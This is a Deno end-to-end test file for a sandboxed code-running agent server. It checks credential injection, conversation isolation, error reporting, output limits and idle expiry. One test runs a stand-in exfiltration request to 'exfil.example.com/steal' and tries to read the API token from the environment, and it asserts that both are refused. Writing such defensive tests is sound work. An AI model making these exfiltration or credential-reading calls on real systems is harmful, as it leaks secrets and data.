/**
 * examples/agent_server end to end: the tool server on 127.0.0.1:0, real
 * sandboxes behind it, and a local HTTPS server standing in for the API
 * host (reached through the injector with `connectTo`).
 */

import assert from "node:assert/strict";
import { PolicyError } from "../mod.ts";
import { CertificateAuthority } from "../injector/ca.ts";
import {
  type AgentServer,
  createAgentServer,
} from "../examples/agent_server/server.ts";
import type { RunCodeReport } from "../examples/agent_server/report.ts";

const API_HOST = "api.example.test";
const TOKEN = "tok-" + crypto.randomUUID();

/** A local HTTPS API that says whether it got the right credential. */
async function startApi(dir: string) {
  const ca = await CertificateAuthority.create({
    commonName: "example API CA",
  });
  const leaf = await ca.leafFor(API_HOST);
  const caFile = `${dir}/api-ca.pem`;
  await Deno.writeTextFile(caFile, ca.certificatePem);
  const server = Deno.serve({
    hostname: "127.0.0.1",
    port: 0,
    cert: leaf.certPem,
    key: leaf.keyPem,
    onListen() {},
  }, (req) =>
    Response.json({
      path: new URL(req.url).pathname,
      authorized: req.headers.get("authorization") === `Bearer ${TOKEN}`,
    }));
  return {
    upstream: {
      connectTo: [`${API_HOST}:443:127.0.0.1:${server.addr.port}`],
      caCerts: [caFile],
    },
    close: () => server.shutdown(),
  };
}

/** The tool server on 127.0.0.1:0, with a client for it. */
async function start(
  extra: Parameters<typeof createAgentServer>[0] = {},
  env: Map<string, string> = new Map([["EXAMPLE_API_TOKEN", TOKEN]]),
) {
  const dir = await Deno.makeTempDir({ prefix: "airlock-example-server-" });
  // Sandbox uids must be able to traverse the workspace parent.
  await Deno.chmod(dir, 0o755);
  const api = await startApi(dir);
  let agent: AgentServer;
  try {
    agent = await createAgentServer({
      api: {
        host: API_HOST,
        header: "Authorization",
        value: "Bearer ${env:EXAMPLE_API_TOKEN}",
      },
      env: (name) => env.get(name),
      upstream: api.upstream,
      tmpDir: dir,
      timeoutMs: 20_000,
      ...extra,
    });
  } catch (error) {
    await api.close();
    await Deno.remove(dir, { recursive: true });
    throw error;
  }
  const http = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    agent.app.fetch,
  );
  const base = `http://127.0.0.1:${http.addr.port}`;
  return {
    agent,
    dir,
    base,
    /** POST /tools/run_code; returns status and parsed JSON. */
    async call(
      conversation: string | null,
      body: unknown,
      init: { type?: string } = {},
    ): Promise<{ status: number; json: Record<string, unknown> }> {
      const headers: Record<string, string> = {
        "content-type": init.type ?? "application/json",
      };
      if (conversation !== null) headers["x-conversation-id"] = conversation;
      const res = await fetch(`${base}/tools/run_code`, {
        method: "POST",
        headers,
        body: typeof body === "string" ? body : JSON.stringify(body),
      });
      return { status: res.status, json: await res.json() };
    },
    async [Symbol.asyncDispose]() {
      await agent.close();
      await http.shutdown();
      await api.close();
      await Deno.remove(dir, { recursive: true });
    },
  };
}

async function runOk(
  server: Awaited<ReturnType<typeof start>>,
  conversation: string,
  code: string,
): Promise<RunCodeReport> {
  const { status, json } = await server.call(conversation, { code });
  assert.equal(status, 200, JSON.stringify(json));
  return json as unknown as RunCodeReport;
}

Deno.test("agent_server: run_code prints, keeps scratch per conversation, reports refused egress and isolates conversations", async () => {
  await using server = await start();

  // Print.
  const hello = await runOk(server, "conv-a", "console.log(6 * 7)");
  assert.equal(hello.stdout, "42\n");
  assert.equal(hello.exitCode, 0);
  assert.equal(hello.reason, "exit");
  assert.equal(hello.success, true);
  assert.equal(hello.conversationId, "conv-a");

  // Write scratch, then read it in a second call of the same conversation.
  const write = await runOk(
    server,
    "conv-a",
    `await Deno.writeTextFile("notes.txt", "remember 1234"); console.log("written");`,
  );
  assert.equal(write.stdout, "written\n");
  const read = await runOk(
    server,
    "conv-a",
    `console.log(await Deno.readTextFile("/scratch/notes.txt"));`,
  );
  assert.equal(read.stdout, "remember 1234\n");
  assert.equal(read.sandboxId, hello.sandboxId, "one sandbox per conversation");

  // The API host is reachable with the credential injected; everything else
  // is refused and shows up in the audit summary; the token is not readable.
  const net = await runOk(
    server,
    "conv-a",
    `
    const api = await fetch("https://${API_HOST}/v1/me");
    console.log("api", JSON.stringify(await api.json()));
    try {
      await fetch("https://exfil.example.com/steal");
      console.log("exfil ALLOWED");
    } catch (error) {
      console.log("exfil refused:", error.name);
    }
    try {
      console.log("env", Deno.env.get("EXAMPLE_API_TOKEN"));
    } catch (error) {
      console.log("env refused:", error.name);
    }
    `,
  );
  assert.match(net.stdout, /^api \{"path":"\/v1\/me","authorized":true\}$/m);
  assert.match(net.stdout, /^exfil refused: NotCapable$/m);
  // The sandbox's environment is readable whole since 9cb6cbf, and holds
  // only airlock's variables: the server's token is simply not there.
  assert.match(net.stdout, /^env undefined$/m);
  assert.ok(!JSON.stringify(net).includes(TOKEN), "the token never shows");
  const apiCall = net.audit.egress.find((e) => e.url.endsWith("/v1/me"));
  assert.ok(apiCall, JSON.stringify(net.audit));
  assert.equal(apiCall.decision, "allow");
  assert.equal(apiCall.status, 200);
  assert.deepEqual(apiCall.injected.map((h) => h.toLowerCase()), [
    "authorization",
  ]);
  const refused = net.audit.denied.find((d) =>
    d.permission === "net" && d.value === "exfil.example.com:443"
  );
  assert.ok(refused, `refusal in the audit: ${JSON.stringify(net.audit)}`);

  // Another conversation: another sandbox, and none of conv-a's files.
  const other = await runOk(
    server,
    "conv-b",
    `try { await Deno.readTextFile("/scratch/notes.txt"); console.log("LEAKED"); }
     catch (error) { console.log(error.name); }
     console.log(JSON.stringify([...Deno.readDirSync("/scratch")]));`,
  );
  assert.equal(other.stdout, "NotFound\n[]\n");
  assert.notEqual(other.sandboxId, hello.sandboxId);
  assert.deepEqual(server.agent.conversations.ids.sort(), ["conv-a", "conv-b"]);

  // Ending a conversation closes its sandbox and deletes its files.
  const gone = await fetch(`${server.base}/conversations/conv-b`, {
    method: "DELETE",
  });
  assert.equal(gone.status, 204);
  await gone.body?.cancel();
  assert.deepEqual(server.agent.conversations.ids, ["conv-a"]);
});

Deno.test("agent_server: errors come back as JSON naming the problem", async () => {
  await using server = await start({ maxOutputBytes: 4096 });

  const noId = await server.call(null, { code: "1" });
  assert.equal(noId.status, 400);
  assert.equal(
    (noId.json.error as { code: string }).code,
    "invalid_conversation_id",
  );

  const badJson = await server.call("c", "{ code: ");
  assert.equal(badJson.status, 400);
  assert.equal((badJson.json.error as { code: string }).code, "invalid_json");

  const wrongShape = await server.call("c", { program: "x" });
  assert.equal(wrongShape.status, 400);
  const shapeError = wrongShape.json.error as {
    code: string;
    issues: unknown[];
  };
  assert.equal(shapeError.code, "invalid_request");
  assert.ok(shapeError.issues.length > 0);

  const notJson = await server.call("c", "console.log(1)", {
    type: "text/plain",
  });
  assert.equal(notJson.status, 415);

  const syntax = await server.call("c", { code: "const = ;" });
  assert.equal(syntax.status, 422);
  const bundle = syntax.json.error as {
    code: string;
    problems: { message: string }[];
  };
  assert.equal(bundle.code, "bundle_error");
  assert.ok(bundle.problems.length > 0);

  const npm = await server.call("c", { code: `import "npm:left-pad";` });
  assert.equal(npm.status, 422);
  assert.match(JSON.stringify(npm.json), /left-pad/);

  // Output is bounded: the run is stopped at the cap and marked truncated.
  const flood = await runOk(
    server,
    "c",
    `const line = "x".repeat(1000); for (let i = 0; i < 1000; i++) console.log(line);`,
  );
  assert.equal(flood.reason, "output-limit");
  assert.equal(flood.truncated, true);
  assert.ok(flood.stdout.length <= 4096 + 100, `${flood.stdout.length}`);

  const unknown = await fetch(`${server.base}/conversations/nope`, {
    method: "DELETE",
  });
  assert.equal(unknown.status, 404);
  assert.equal((await unknown.json()).error.code, "not_found");
});

Deno.test("agent_server: a policy that cannot be resolved is refused at start, and as JSON later", async () => {
  await assert.rejects(
    start({}, new Map()),
    (error) =>
      error instanceof PolicyError && /EXAMPLE_API_TOKEN/.test(error.message),
  );

  // The variable disappears after start: new conversations get a clear 500.
  const env = new Map([["EXAMPLE_API_TOKEN", TOKEN]]);
  await using server = await start({}, env);
  env.delete("EXAMPLE_API_TOKEN");
  const { status, json } = await server.call("late", { code: "1" });
  assert.equal(status, 500);
  const error = json.error as { code: string; message: string };
  assert.equal(error.code, "invalid_policy");
  assert.match(error.message, /EXAMPLE_API_TOKEN/);
  assert.deepEqual(server.agent.conversations.ids, []);
});

Deno.test("agent_server: an idle conversation expires: its sandbox and files are gone", async () => {
  // 3 s, not less: the workspace is counted below after the run's answer
  // came back, and a shorter idle period could end on a loaded machine
  // before that count (the expiry then looked like a missing workspace).
  await using server = await start({ idleMs: 3_000 });
  const first = await runOk(
    server,
    "short",
    `await Deno.writeTextFile("x.txt", "1"); console.log("ok");`,
  );
  assert.equal(first.stdout, "ok\n");
  const workspaces = () =>
    [...Deno.readDirSync(server.dir)].filter((e) =>
      e.name.startsWith("airlock-")
    ).length;
  assert.equal(workspaces(), 1);

  const deadline = Date.now() + 30_000;
  while (server.agent.conversations.ids.length > 0 || workspaces() > 0) {
    assert.ok(Date.now() < deadline, "the conversation did not expire");
    await new Promise((resolve) => setTimeout(resolve, 100));
  }

  // The same id starts over with a fresh, empty sandbox.
  const again = await runOk(
    server,
    "short",
    `console.log(JSON.stringify([...Deno.readDirSync(".")].map((e) => e.name)));`,
  );
  assert.equal(again.stdout, "[]\n");
  assert.notEqual(again.sandboxId, first.sandboxId);
});
